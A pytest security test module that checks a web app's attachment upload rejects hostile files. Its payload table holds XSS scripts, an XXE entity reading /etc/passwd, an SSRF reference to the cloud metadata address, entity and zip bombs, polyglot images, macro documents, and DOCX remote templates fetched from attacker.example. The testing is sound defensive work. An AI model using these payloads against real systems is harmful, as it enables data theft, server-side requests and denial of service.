"""Attack 10: files that run something where they are opened, or that cost whoever looks into them dearly."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import pytest

from tests.attachments import corpus
from tests.browser import Browser, put_upload
from tests.emulators import Stage
from tests.people import People
from tests.security.watching import stored

SCRIPT = "<script>alert(1)</script>"
HTML = f"<!doctype html><html><body>{SCRIPT}</body></html>".encode()
XHTML = f'<html xmlns="http://www.w3.org/1999/xhtml"><body>{SCRIPT}</body></html>'.encode()
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{SCRIPT}</svg>'.encode()
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
LAUGHS = b'<!DOCTYPE l [<!ENTITY a "ha">' + b"".join(
    b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
) + b"]><l>&j;</l>"  # fmt: skip


def macro(kind: str) -> bytes:
    """Return an Office document with a macro."""
    parts = corpus.docx_parts() if kind == "docx" else corpus.xlsx_parts()
    folder = "word" if kind == "docx" else "xl"
    return corpus.package({**parts, f"{folder}/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"Attribut" * 20})


def bomb() -> bytes:
    """Return a document of a few KB that is 200 MB unpacked."""
    parts = {**corpus.docx_parts(), "word/media/rest.bin": bytes(200 * 1024 * 1024)}
    return corpus.package(parts)


def lying_bomb() -> bytes:
    """Return a document whose directory says 10 bytes of a part that unpacks to a million."""
    content = corpus.package({**corpus.docx_parts(), "word/media/rest.bin": bytes(1_000_000)})
    size = (1_000_000).to_bytes(4, "little")
    assert content.count(size) == 2
    return content.replace(size, (10).to_bytes(4, "little"))


FILES: dict[str, tuple[str, str, bytes]] = {
    "XHTML in XML": ("page.xml", "application/xml", XHTML),
    "XHTML by a prefix in XML": (
        "page.xml",
        "text/xml",
        XHTML.replace(b"xmlns=", b"xmlns:h=").replace(b"html", b"h:html"),
    ),
    "SVG in XML": ("page.xml", "application/xml", SVG),
    "XSLT in XML": ("page.xml", "application/xml", b'<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a/>'),
    "XML with an entity of a file": (
        "page.xml",
        "application/xml",
        b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    ),
    "XML with an entity of a server": (
        "page.xml",
        "application/xml",
        b'<!DOCTYPE a SYSTEM "http://169.254.169.254/latest/meta-data/"><a/>',
    ),
    "XML with a billion laughs": ("page.xml", "application/xml", LAUGHS),
    "XML ten thousand deep": ("page.xml", "application/xml", b"<a>" * 10_000 + b"</a>" * 10_000),
    "SVG in PNG": ("picture.png", "image/png", SVG),
    "HTML in PNG": ("picture.png", "image/png", HTML),
    "a PNG header before HTML": ("picture.png", "image/png", b"\x89PNG\r\n\x1a\n" + HTML),
    "HTML behind a PNG": ("picture.png", "image/png", corpus.png() + HTML),
    "HTML in a PNG's comment": ("picture.png", "image/png", corpus.png(corpus.chunk(b"tEXt", b"Comment\0" + HTML))),
    "an archive behind a JPG": ("picture.jpg", "image/jpeg", corpus.jpg() + corpus.package({"a.class": b"x"})),
    "an archive behind a JPG without an end": (
        "picture.jpg",
        "image/jpeg",
        corpus.jpg()[:-2] + corpus.package({"a.class": b"x"}),
    ),
    "HTML behind a JPG without an end": ("picture.jpg", "image/jpeg", corpus.jpg()[:-2] + HTML),
    "HTML behind the settings of a Mac": (
        "picture.jpg",
        "image/jpeg",
        corpus.jpg(corpus.segment(0xED, b"<!DOCTYPE plist><plist/>" + HTML)),
    ),
    "HTML between segments of a JPG": ("picture.jpg", "image/jpeg", corpus.jpg(b"\0\0" + HTML)),
    "HTML behind a GIF without a trailer": ("picture.gif", "image/gif", corpus.gif()[:-1] + HTML),
    "a script in a GIF": ("picture.gif", "image/gif", b"GIF89a=1;alert(1)//" + bytes(40)),
    "HTML in CSV": ("table.csv", "text/csv", HTML),
    "HTML behind space in CSV": ("table.csv", "text/csv", b"\xef\xbb\xbf\r\n \t" + HTML),
    "a program in CSV": ("table.csv", "text/csv", b"MZ\x90\0" + bytes(100)),
    "HTML in DOC": ("letter.doc", "application/msword", HTML),
    "macros in DOC": ("letter.doc", "application/msword", corpus.doc("Macros", "VBA")),
    "macros in a short DOC": ("letter.doc", "application/msword", corpus.short_doc(parent="Macros")),
    "macros in DOCX by a relationship alone": (
        "letter.docx",
        DOCX,
        corpus.docx({"word/_rels/document.xml.rels": corpus.relationships(("vbaProject", "any.dat", False))}),
    ),
    "macros that nobody can look for": ("table.xlsx", XLSX, corpus.doc(stream="EncryptedPackage")),
    "macros in DOCX": ("letter.docx", DOCX, macro("docx")),
    "macros in XLSX": ("table.xlsx", XLSX, macro("xlsx")),
    "a template fetched by DOCX": (
        "letter.docx",
        DOCX,
        corpus.docx(
            {
                "word/_rels/settings.xml.rels": corpus.relationships(
                    ("attachedTemplate", "http://attacker.example/t.dotm", True)
                )
            }
        ),
    ),
    "a template fetched by four slashes": (
        "letter.docx",
        DOCX,
        corpus.docx(
            {
                "word/_rels/settings.xml.rels": corpus.relationships(
                    ("attachedTemplate", "file:////attacker.example/share/t.dotm", True)
                )
            }
        ),
    ),
    "a chunk fetched by DOCX": (
        "letter.docx",
        DOCX,
        corpus.docx({"word/_rels/document.xml.rels": corpus.relationships(("aFChunk", "secret.html", True))}),
    ),
    "a part outside of DOCX": ("letter.docx", DOCX, corpus.docx({"../../outside.xml": "<a/>"})),
    "an entity in DOCX": ("letter.docx", DOCX, corpus.docx({"word/document.xml": LAUGHS})),
    "any zip as DOCX": ("letter.docx", DOCX, corpus.package({"a.class": b"x"})),
    "a bomb in DOCX": ("letter.docx", DOCX, bomb()),
    "a bomb that lies in DOCX": ("letter.docx", DOCX, lying_bomb()),
    "HTML at the head of PDF": ("paper.pdf", "application/pdf", HTML + corpus.pdf()),
    "HTML behind PDF": ("paper.pdf", "application/pdf", corpus.pdf() + HTML),
    "a program as PDF": ("paper.pdf", "application/pdf", b"MZ" + corpus.pdf()),
}


@pytest.fixture
def owner(browse: Callable[..., Browser], people: People) -> Browser:
    browser = browse(people.owner)
    browser.get("/conversations/new")
    return browser


def test_the_corpus_is_what_it_says() -> None:
    """The bombs are small outside and large inside, so that what stops them is not the limit of 3 MB."""
    for name in ("a bomb in DOCX", "a bomb that lies in DOCX"):
        assert len(FILES[name][2]) < 300_000
    with zipfile.ZipFile(io.BytesIO(FILES["a bomb in DOCX"][2])) as archive:
        assert sum(one.file_size for one in archive.infolist()) > 200_000_000


def test_each_is_refused_by_name_and_stored_nowhere(owner: Browser, people: People, ministack_stage: Stage) -> None:
    """The customer reads which file and why; the attachment bucket stays empty, and the text is kept."""
    conversation, wrong = people.starts(people.owner), []
    for what, (name, content_type, content) in FILES.items():
        owner.get(f"/conversations/{conversation.id}")
        upload = owner.upload(name, content_type, content)
        page = owner.submit("Send", body="My words", attachment=[upload])
        said = " ".join(page.faults)
        kept = page.one("textarea[name=body]").content.strip()
        if page.status != 422 or f"“{name}” was not attached" not in said or kept != "My words":
            wrong.append(f"{what}: {page.status} {said}")
    assert not wrong
    assert not [one for one in stored(ministack_stage) if one.startswith("FOYER_ATTACHMENT_BUCKET")]
    assert people.head(conversation.id) == conversation


def test_the_good_ones_they_imitate_are_taken(owner: Browser, people: People) -> None:
    """What is refused above is refused for what it is: a sound file of each kind gets through, as it came."""
    types = {"xlsx": XLSX, "docx": DOCX, "csv": "text/csv", "doc": "application/msword", "xml": "text/xml"}
    types |= {
        "pdf": "application/pdf",
        "gif": "image/gif",
        "jpg": "image/jpeg",
        "jpeg": "image/jpeg",
        "png": "image/png",
    }
    assert types.keys() == corpus.GOOD.keys()
    for kind, content in corpus.GOOD.items():
        owner.get("/conversations/new")
        upload = owner.upload(f"good.{kind}", types[kind], content)
        page = owner.submit("Start the conversation", subject=kind, body="", attachment=[upload])
        assert page.status == 200, kind
        assert owner.download(page.one("ul.files a")["href"]).content == content


def test_one_bad_file_keeps_the_good_ones_ready(owner: Browser) -> None:
    good = owner.upload("lamp.png", "image/png", corpus.png())
    bad = owner.upload("lamp2.png", "image/png", SVG)
    page = owner.submit("Start the conversation", subject="Lamp", body="Look", attachment=[good, bad])
    assert page.status == 422
    assert "lamp2.png" in " ".join(page.faults)
    assert "“lamp.png”" not in " ".join(page.faults)
    offered = [one["value"] for one in page.all("input[name=attachment]")]
    assert good in offered


def test_what_was_checked_is_what_is_kept(owner: Browser, people: People) -> None:
    """Another upload under the same policy after the check, of something that would not pass it, changes nothing."""
    begun = owner.fetch("POST", "/uploads", {"name": "a.png", "type": "image/png", "size": len(corpus.png())}).json()
    assert put_upload(begun, corpus.png()) == 201
    page = owner.submit("Start the conversation", subject="Lamp", body="", attachment=[begun["id"]])
    assert page.status == 200
    assert put_upload(begun, HTML) == 201
    assert owner.download(page.one("ul.files a")["href"]).content == corpus.png()
